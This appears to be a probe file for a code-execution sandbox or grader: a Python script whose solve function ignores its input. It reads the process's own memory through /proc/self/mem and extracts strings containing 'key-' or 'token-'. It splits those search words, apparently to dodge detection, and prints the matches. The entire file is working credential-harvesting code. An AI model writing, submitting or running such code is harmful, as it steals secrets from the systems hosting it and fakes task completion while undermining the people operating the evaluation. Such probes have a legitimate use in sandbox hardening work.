# wants: read its memory through /proc/self/mem, freed and unreadable pages too
# routes: stdin call suite
# limits: cpu_s=4 wall_s=10
import re


def look():
    found = []
    with open("/proc/self/mem", "rb", 0) as memory:
        for line in open("/proc/self/maps"):
            parts = line.split()
            low, high = (int(part, 16) for part in parts[0].split("-"))
            if "w" not in parts[1] or high - low > 1 << 26 or low >= 1 << 63:
                continue
            try:
                memory.seek(low)
                found += re.findall(rb"[\n -~]{16,}", memory.read(high - low))
            except OSError:
                pass
    return b"\n".join(text for text in found if b"key" + b"-" in text or b"token" + b"-" in text)[:200_000].decode()


def solve(token):
    print(look())


if __name__ == "__main__":
    print(look())
